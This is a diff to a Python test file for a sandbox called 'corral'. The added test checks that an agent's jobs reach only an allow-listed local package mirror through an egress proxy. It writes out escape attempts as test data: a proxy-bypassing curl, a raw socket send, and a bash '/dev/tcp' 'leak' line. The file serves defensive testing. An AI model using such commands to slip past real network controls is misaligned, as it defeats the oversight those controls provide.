@@ -9,6 +9,7 @@ import os
 import shutil
 import socket
 import subprocess
+import sys
 import tempfile
 import threading
 import time
@@ -360,3 +361,75 @@ def test_attacks_executed_in_every_disguise_harm_nothing(tmp_path, monkeypatch) 
             shutil.rmtree(spot, ignore_errors=True)
         assert ran >= 150, ran
         assert harmed == [], harmed
+
+
+def _mirror(root: Path) -> Path:
+    """A package index of one wheel (written by hand: no network, no build backend)."""
+    import zipfile
+
+    whl = "corral_mirror_pkg-1.0-py3-none-any.whl"
+    (root / "simple" / "corral-mirror-pkg").mkdir(parents=True)
+    info = "corral_mirror_pkg-1.0.dist-info"
+    files = {"corral_mirror_pkg/__init__.py": "FROM_MIRROR = True\n",
+             f"{info}/METADATA": "Metadata-Version: 2.1\nName: corral-mirror-pkg\nVersion: 1.0\n",
+             f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: corral\nRoot-Is-Purelib: true\nTag: py3-none-any\n"}
+    with zipfile.ZipFile(root / whl, "w") as z:
+        for k, v in files.items():
+            z.writestr(k, v)
+        z.writestr(f"{info}/RECORD", "".join(f"{k},,\n" for k in files) + f"{info}/RECORD,,\n")
+    (root / "simple" / "corral-mirror-pkg" / "index.html").write_text(f'<a href="../../{whl}">{whl}</a>\n')
+    return root
+
+
+def test_egress_reaches_the_allow_list_and_nothing_else(tmp_path, canary) -> None:
+    """With [sandbox] allow_hosts, an agent's job installs from the facility's mirror
+    through corral's egress proxy (proxy.py); any other host, by any program, and a
+    direct connection, reach nothing."""
+    need_bwrap()
+    mirror = subprocess.Popen([sys.executable, "-m", "http.server", "0", "--bind", "127.0.0.1"],
+                              cwd=_mirror(tmp_path / "mirror"), stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
+    listener = socket.socket()
+    listener.bind(("127.0.0.1", 0))
+    listener.listen(8)
+    listener.settimeout(0.2)
+    heard: list[bytes] = []
+
+    def accept() -> None:
+        while True:
+            try:
+                conn, _ = listener.accept()
+            except TimeoutError:
+                continue
+            except OSError:
+                return
+            heard.append(conn.recv(100) or b"(connected)")
+            conn.close()
+
+    threading.Thread(target=accept, daemon=True).start()
+    try:
+        line = mirror.stdout.readline() if mirror.stdout else ""
+        mport = int(line.split("port ")[1].split()[0])
+        lport = listener.getsockname()[1]
+        with running(tmp_path, HOME=str(canary["home"]), CORRAL_SANDBOX_ALLOW_HOSTS=f'["127.0.0.1:{mport}"]') as gw:
+            t = pair(gw)
+            ok = run_job(gw, t["bot1"], "python3 -m venv /tmp/v && /tmp/v/bin/pip install -q --disable-pip-version-check "
+                         f"--index-url http://127.0.0.1:{mport}/simple corral-mirror-pkg && "
+                         "/tmp/v/bin/python -c 'import corral_mirror_pkg; print(corral_mirror_pkg.FROM_MIRROR)'",
+                         canary["work"])
+            assert ok["state"] == "COMPLETED" and ok["out"].strip() == "True", ok
+            for cmd in (f"curl -s -m 3 http://127.0.0.1:{lport}/",
+                        f"curl -s -m 3 --noproxy '*' http://127.0.0.1:{lport}/",
+                        f"python3 -c \"import socket; socket.create_connection(('127.0.0.1', {lport}), 2).send(b'x')\"",
+                        f"bash -c 'echo leak > /dev/tcp/127.0.0.1/{lport}'",
+                        "curl -s -m 3 https://pypi.org/simple/"):
+                job = run_job(gw, t["bot1"], cmd, canary["work"])
+                assert job["state"] in ("FAILED", "COMPLETED", "REFUSED"), job
+                if cmd.startswith("curl -s -m 3 http:"):  # the proxy's answer says what to ask for
+                    assert "not on this facility's egress allow-list" in job["out"], job
+            with gw.http(t["bot1"]) as h:
+                info = h.get("/v1/facility").json()["sandbox"]
+            assert info["allow_hosts"] == [f"127.0.0.1:{mport}"] and "through the proxy" in info["you"]
+    finally:
+        mirror.kill()
+        listener.close()
+    assert heard == []
